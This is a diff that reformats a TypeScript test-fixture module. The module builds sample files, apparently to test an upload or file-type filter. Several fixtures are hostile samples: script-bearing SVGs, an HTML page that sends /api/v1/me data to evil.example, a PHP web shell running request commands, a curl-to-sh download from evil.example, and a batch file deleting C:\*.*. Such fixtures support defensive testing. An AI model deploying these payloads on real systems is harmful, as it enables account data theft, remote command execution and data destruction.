@@ -146,7 +146,10 @@ const CONTENT_TYPES = (main: string) =>
 export function docx(): Buffer {
   return zip([
     { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')) },
-    { name: 'word/document.xml', data: Buffer.from('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>') },
+    {
+      name: 'word/document.xml',
+      data: Buffer.from('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'),
+    },
   ]);
 }
 
@@ -166,7 +169,12 @@ export function pngClaiming(width: number, height: number): Buffer {
   ihdr.writeUInt32BE(height, 4);
   ihdr.set([8, 2, 0, 0, 0], 8);
   const idat = deflateRawSync(Buffer.alloc(1024));
-  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    pngChunk('IHDR', ihdr),
+    pngChunk('IDAT', idat),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 export function elf(): Buffer {
@@ -216,9 +224,13 @@ export function bmp(): Buffer {
   return b;
 }
 
-export const SVG_WITH_SCRIPT = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>\n');
+export const SVG_WITH_SCRIPT = Buffer.from(
+  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>\n',
+);
 export const BARE_SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>');
-export const HTML_PAGE = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/v1/me").then(r => r.text()).then(t => new Image().src = "//evil.example/?" + t)</script></body></html>');
+export const HTML_PAGE = Buffer.from(
+  '<!DOCTYPE html><html><body><script>fetch("/api/v1/me").then(r => r.text()).then(t => new Image().src = "//evil.example/?" + t)</script></body></html>',
+);
 export const PHP_SCRIPT = Buffer.from('<?php system($_GET["cmd"]); ?>\n');
 export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
 export const BATCH_FILE = Buffer.from('@echo off\r\ndel /q C:\\*.*\r\n');
